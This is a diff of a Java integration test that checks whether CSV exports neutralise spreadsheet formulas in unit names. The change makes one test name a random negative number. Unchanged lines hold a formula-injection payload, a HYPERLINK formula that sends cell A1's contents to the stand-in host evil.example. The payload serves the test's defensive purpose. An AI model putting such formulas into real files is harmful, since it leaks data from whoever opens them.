@@ -32,6 +32,7 @@ import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
+import java.util.Random;
 import java.util.UUID;
 import java.util.function.Predicate;
 
@@ -70,7 +71,8 @@ class ExportFormulaIT {
                 .getJsonObject(0).getJsonNumber("id").longValue();
 
         String unitName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\") " + id;
-        String plainNumberUnit = "-12";
+        // a plain negative number as a name, unique per run (a district's unit names are unique)
+        String plainNumberUnit = Integer.toString(-100_000 - new Random().nextInt(900_000));
         long unit = created(post(http, "api/units", Json.createObjectBuilder().add("areaId", area)
                 .add("name", unitName).build(), Fixtures.RINKEBY));
         created(post(http, "api/units", Json.createObjectBuilder().add("areaId", area).add("name", plainNumberUnit)
@@ -119,7 +121,7 @@ class ExportFormulaIT {
                 // a cell may hold more than the name (the inquiries list shows "name <e-mail>"): it starts with it
                 boolean formulaLike = !value.equals(plainNumberUnit) && !value.equals(hyphenName);
                 String expectedStart = formulaLike ? "'" + value : value;
-                // "-12" alone, not inside a date such as 2031-12-17
+                // the number alone, not inside a longer number or a date
                 Predicate<String> holds = value.equals(plainNumberUnit) ? value::equals : c -> c.contains(value);
                 List<String> csvCells = csv.stream().filter(holds).toList();
                 cells += csvCells.size();
